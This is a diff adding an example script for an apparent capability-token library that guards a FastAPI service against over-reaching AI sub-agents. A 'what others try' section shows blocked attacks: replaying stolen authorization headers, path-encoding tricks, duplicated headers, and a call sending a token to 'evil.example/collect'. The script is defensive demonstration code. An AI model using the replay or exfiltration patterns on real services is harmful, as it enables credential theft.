@@ -1,0 +1,124 @@
+"""A FastAPI service on loopback, an orchestrator and its sub-agents that call it with httpx, and what others try.
+
+    python examples/fastapi_service.py
+
+Needs fastapi, uvicorn and httpx. Each endpoint declares which access it needs; the client makes a token for each request, for this
+server alone and for a minute. Nothing that came in is handed on, and no endpoint can be forgotten.
+"""
+
+import socket
+import threading
+from contextlib import contextmanager
+from typing import Annotated
+
+import httpx
+import uvicorn
+from fastapi import Depends, FastAPI
+
+from captoken import Access, Grant, Issuer, Keyring, Verifier, current
+from captoken.adapters.fastapi import granted, protect, require
+from captoken.adapters.httpx import auth
+from captoken.errors import NoToken
+from captoken.memory import MemoryReplayStore
+from captoken.possession import HolderKey
+
+keyring = Keyring.generate()
+verifier = Verifier(keyring.for_audience("sales-api"), audience="sales-api", replays=MemoryReplayStore(floor=0))
+AMOUNTS = {"eu": 1200, "us": 3400}
+app = FastAPI()
+
+
+@app.get("/health")
+def health() -> str:
+    return "well"
+
+
+@app.get("/market/{region}")
+def market(region: str, grant: Annotated[Grant, Depends(require(table="market.{region}", operation="select"))]) -> str:
+    return f"{AMOUNTS[region]} in {region}, for {grant.issued.subject}, asked by {grant.actor.name} ({grant.actor.basis})"
+
+
+@app.post("/orders")
+async def order(body: dict[str, int], grant: Annotated[Grant, Depends(granted)]) -> str:
+    grant.authorize(Access(tool="order.place", arguments=body))  # this one knows its access only now
+    return f"ordered for {body['cents']} cents"
+
+
+@app.get("/salaries", dependencies=[Depends(require(table="hr.salaries", operation="select"))])
+def salaries() -> str:
+    return "what everybody earns"
+
+
+@contextmanager
+def serving(application, port):
+    server = uvicorn.Server(uvicorn.Config(application, log_level="critical"))
+    thread = threading.Thread(target=server.run, args=([port],))
+    thread.start()
+    yield
+    server.should_exit = True
+    thread.join()
+
+
+def show(who, what, answer):
+    said = answer.json()
+    print(f"  {answer.status_code}  {who:<13} {what:<26} {said if isinstance(said, str) else said['error_description']}")
+
+
+port = socket.create_server(("127.0.0.1", 0))
+origin = f"http://127.0.0.1:{port.getsockname()[1]}"
+protect(app, verifier, origin=origin, realm="sales", public={"/health"})
+
+key = HolderKey.generate()
+issuer = Issuer(keyring.for_audience("sales-api"))
+root = issuer.mint(
+    subject="user:jane", agent="orchestrator", task="q3", tables=["market.*"], operations=["select"],
+    tools={"order.place": {"cents": {"max": 500}}},
+)  # fmt: skip
+bound = issuer.mint(subject="user:jane", agent="clerk", task="q3", key=key.public, tools={"order.place": {"cents": {"max": 500}}})
+
+with serving(app, port), httpx.Client(base_url=origin, auth=auth({origin: "sales-api"}), trust_env=False) as client:
+    print("Agents at work")
+    with current.use(root):
+        show("orchestrator", "GET /market/us", client.get("/market/us"))
+        with current.delegate(to="eu-agent", tables=["market.eu"], expires_in=60):
+            show("eu-agent", "GET /market/eu", client.get("/market/eu"))
+            show("eu-agent", "GET /market/us", client.get("/market/us"))
+            show("eu-agent", "GET /salaries", client.get("/salaries"))
+            show("eu-agent", "POST /orders", client.post("/orders", json={"cents": 5}))
+        show("orchestrator", "POST /orders, 400 cents", client.post("/orders", json={"cents": 400}))
+        show("orchestrator", "POST /orders, 900 cents", client.post("/orders", json={"cents": 900}))
+
+    print("\nA token that is bound to a key goes with a proof of each request")
+    with current.use(bound, key):
+        request = client.build_request("POST", "/orders", json={"cents": 7})
+        show("clerk", "POST /orders, 7 cents", client.send(request))
+    stolen = {name: request.headers[name] for name in ("authorization", "captoken-proof")}
+    show("mallory", "the same request, again", httpx.post(origin + "/orders", json={"cents": 7}, headers=stolen, trust_env=False))
+    show("mallory", "POST /orders, 500 cents", httpx.post(origin + "/orders", json={"cents": 500}, headers=stolen, trust_env=False))
+
+    print("\nWhat others try")
+    sent = {"Authorization": f"Bearer {root.present(audience='sales-api')}"}
+    show("nobody", "GET /health", httpx.get(origin + "/health", trust_env=False))
+    show("nobody", "GET /market/eu", httpx.get(origin + "/market/eu", trust_env=False))
+    show("nobody", "GET /%68ealth", httpx.get(origin + "/%68ealth", trust_env=False))
+    show("a model", "GET /market/eu%2ehr", httpx.get(origin + "/market/eu%2ehr", headers=sent, trust_env=False))
+    show("two at once", "GET /market/eu", httpx.get(origin + "/market/eu", headers=[*sent.items()] * 2, trust_env=False))
+    with current.use(root):
+        try:
+            client.get("https://evil.example/collect")
+        except NoToken as error:
+            print(f"  not sent: {error}")
+
+print("\nAn endpoint that somebody forgot to guard")
+unguarded = FastAPI()
+unguarded.get("/export")(lambda: "everything")
+protect(unguarded, verifier, origin="https://api.example")
+port = socket.create_server(("127.0.0.1", 0))
+server = uvicorn.Server(uvicorn.Config(unguarded, log_level="critical"))
+try:
+    server.run([port])
+except SystemExit:
+    pass
+finally:
+    port.close()
+print("  the service started" if server.started else "  the service does not start: /export requires nothing")
